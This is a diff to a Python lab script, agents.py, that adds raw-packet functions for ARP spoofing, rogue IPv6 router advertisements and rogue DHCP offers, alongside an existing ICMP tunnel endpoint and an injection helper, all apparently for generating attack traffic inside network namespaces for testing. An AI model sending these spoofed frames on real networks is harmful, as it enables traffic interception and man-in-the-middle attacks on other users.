@@ -1,6 +1,7 @@
 #!/usr/bin/env python3
 """agents.py WHAT [ARGUMENT]... : one end of a conversation, run in a namespace of the lab. Servers print a line when ready."""
 
+import fcntl
 import random
 import selectors
 import socket
@@ -80,9 +81,10 @@ def ask(server, mode, kind, count, seed):
         time.sleep(0.005)
 
 
-def answer_pings():
+def answer_pings(address):
     """Answers each ping with other data than it brought: the far end of a tunnel."""
     server = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    server.bind((address, 0))
     print("ready", flush=True)
     chance = random.Random(2)
     while True:
@@ -128,9 +130,49 @@ def inject(target, identifier, count, source, destination):
         time.sleep(0.02)
 
 
+def raw(frame, count, pause=0.02):
+    """Sends a frame as it is, so often."""
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as client:
+        client.bind(("eth0", 0))
+        for _ in range(int(count)):
+            client.send(frame)
+            time.sleep(pause)
+
+
+def own_mac():
+    # Of this namespace; /sys shows those of another one.
+    with socket.socket() as client:
+        return fcntl.ioctl(client, 0x8927, struct.pack("256s", b"eth0"))[18:24]
+
+
+def claim(address, victim, victim_mac, count):
+    """Tells a neighbour by ARP that an address is here, again and again."""
+    here, there = packets.Host(own_mac(), packets.host("0:0", address).ip), packets.host(victim_mac, victim)
+    raw(packets.arp(here, there.ip, there.mac), count, 0.5)
+
+
+def advertise(count):
+    """Offers to route for the segment, as a rogue router does."""
+    here = packets.Host(own_mac(), packets.host("00", "fe80::66").ip)
+    group = packets.host("33:33:00:00:00:01", "ff02::1")
+    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + b"\x01\x01" + here.mac
+    way = packets.Way(here, group)
+    value = packets.checksum(body, way.pseudo + packets.ICMP6 + len(body))
+    raw(way.packet(packets.ICMP6, body[:2] + struct.pack("!H", value) + body[4:], ttl=255), count, 0.2)
+
+
+def lease(count):
+    """Offers an address, as a DHCP server that nobody asked for."""
+    here, all_hosts = packets.Host(own_mac(), packets.host("00", "10.88.0.66").ip), packets.host("ff" * 6, "255.255.255.255")
+    body = struct.pack("!BBBBIHH", 2, 1, 6, 0, 0x1234, 0, 0x8000) + bytes(4) + b"\x0a\x58\x00\xc8" + here.ip + bytes(4)
+    body += b"\x02\x10\0\0\0\x99" + bytes(10) + bytes(192) + b"\x63\x82\x53\x63"
+    options = b"\x35\x01\x02" + b"\x36\x04" + here.ip + b"\x33\x04\0\0\x0e\x10" + b"\x03\x04" + here.ip + b"\xff"
+    raw(packets.Way(here, all_hosts).udp(67, 68, body + options), count, 0.2)
+
+
 WHAT = {
     "serve": lambda *ports: serve(ports), "answer-names": answer_names, "ask": ask, "answer-pings": answer_pings,
-    "ping": ping, "mix": mix, "inject": inject,
+    "ping": ping, "mix": mix, "inject": inject, "claim": claim, "advertise": advertise, "lease": lease,
 }  # fmt: skip
 
 if __name__ == "__main__":
